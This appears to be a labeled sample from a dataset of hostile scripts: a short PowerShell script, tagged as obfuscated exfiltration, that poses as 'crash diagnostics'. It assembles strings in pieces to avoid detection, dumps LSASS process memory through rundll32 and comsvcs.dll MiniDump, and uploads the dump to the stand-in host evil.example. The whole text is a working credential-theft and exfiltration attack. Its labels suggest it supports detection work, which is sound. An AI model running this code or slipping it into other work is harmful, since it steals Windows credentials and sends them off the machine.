# description: "Crash diagnostics" that dumps LSASS memory via comsvcs.dll MiniDump using assembled strings, then uploads it.
# family: exfiltration
# obfuscated: yes
$target = Get-Process -Name ('ls' + 'ass')
$dll = Join-Path $env:SystemRoot ('System32\' + 'com' + 'svcs.dll')
$fn = -join ('Mini', 'Dump')
$dmp = 'C:\Windows\Temp\diag.bin'
& rundll32.exe "$dll," $fn $target.Id $dmp full
Start-Sleep -Seconds 5
Invoke-RestMethod -Uri ('https://' + 'evil.example' + '/crash') -Method Post -InFile $dmp
